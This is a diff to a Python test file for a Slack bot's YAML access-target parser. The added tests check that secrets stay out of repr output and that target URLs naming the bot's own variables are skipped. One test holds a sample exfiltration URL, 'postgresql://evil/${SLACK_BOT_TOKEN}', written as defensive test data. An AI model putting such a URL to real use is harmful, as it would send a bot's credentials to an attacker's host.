@@ -47,6 +47,21 @@ def test_each_target_is_judged_for_itself() -> None:
         "twice": "access.yaml:8: targets.twice.url: is here twice, first on line 8; take one out",
     }
     assert "s3cret" not in repr(found)
+    assert found.variables["orders-db"] == ("ORDERS_DB_URL",)
+    assert found.variables["lost"] == ()
+
+
+def test_a_secret_in_the_file_does_not_keep_it_from_being_used_to_revoke() -> None:
+    found = targets_of(f'targets: {{orders-db: {{kind: postgres, url: "{URL}"}}}}', environ={})
+    assert (list(found.settings), found.skipped) == (["orders-db"], {})
+    assert "s3cret" not in repr(found)
+
+
+def test_but_not_even_there_is_one_of_the_bots_own_variables_read() -> None:
+    text = 'targets: {orders-db: {kind: postgres, url: "postgresql://evil/${SLACK_BOT_TOKEN}"}}'
+    found = targets_of(text, environ={"SLACK_BOT_TOKEN": "xoxb-1"})
+    assert not found.settings
+    assert "SLACK_BOT_TOKEN is one of the bot's own variables" in found.skipped["orders-db"]
 
 
 def test_a_good_file_has_the_targets_workspace_and_version_of_its_policy() -> None:
@@ -71,7 +86,7 @@ def test_where_there_are_none_there_are_none(text: str) -> None:
         ),
         (
             "workspace: ${W}",
-            "a.yaml:1: workspace: the variable W is not set; give it a value in the environment",
+            "a.yaml:1: workspace: has ${ in it, and variables are filled in only in the settings of",
         ),
         ("{", "a.yaml:1: this is not YAML: "),
     ],
